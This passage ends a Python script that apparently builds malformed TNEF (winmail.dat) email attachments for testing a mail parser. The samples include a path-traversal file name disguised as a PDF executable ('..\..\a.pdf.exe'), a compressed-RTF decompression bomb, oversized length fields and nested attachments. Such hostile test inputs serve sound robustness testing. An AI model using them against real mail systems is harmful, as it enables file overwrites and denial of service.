    stored = struct.pack("<III", len(rtf) + 12, len(rtf), 0x414c454d) + b"\0\0\0\0" + rtf
    for what, text, data in (
            ("its text is a page", "", start + attribute(1, 0x69003, properties(prop(0x1013, 0x102, page)))),
            ("its text is RTF with an object and a field", "", start + attribute(1, 0x69003, properties(prop(0x1009, 0x102, stored)))),
            ("a program and a page among its files", f"The {WORD} lamp", start + file(b"..\\..\\a.pdf.exe", b"MZ") + file(b"a.html", page)),
            ("a length of four gigabytes", f"The {WORD} lamp", start + file(b"a.txt", b"x") + struct.pack("<BII", 2, 0x6800f, 0xfffffff0) + b"x"),
            ("a thousand files", f"The {WORD} lamp", start + file(b"a.txt", b"x") * 1_000),
            ("a bomb of RTF", f"The {WORD} lamp", start + attribute(1, 0x69003, properties(prop(0x1009, 0x102, struct.pack("<III", 0, 0xffffffff, 0x75465a4c) + b"\0\0\0\0" + (b"\xff" + b"\x00\x0f" * 8) * 20_000)))),
            ("a property of an unknown kind", f"The {WORD} lamp", start + attribute(1, 0x69003, struct.pack("<IHHI", 9, 0x7f, 0x1000, 4) + b"x" * 40)),
            ("one in the other", f"The {WORD} lamp", start + file(b"winmail.dat", start + file(b"winmail.dat", start)))):
        put("tnef", mixed([f"Content-Type: text/plain\r\n\r\n{text}", "Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                           + base64.b64encode(data).decode()], **tries(what)))


def main():
    global folder
    folder = sys.argv[1]
    os.makedirs(folder, exist_ok=True)
    for make in (charsets, encodings, broken, bombs, people, names, htmls, quotes, machines,
                 more_htmls, encoded_htmls, parted_htmls, tnefs):
        make()
    with open(os.path.join(folder, "made"), "w", encoding="utf-8") as file:
        file.write(f"{sum(count.values())}\n")
    print(sum(count.values()), dict(sorted(count.items())))


main()
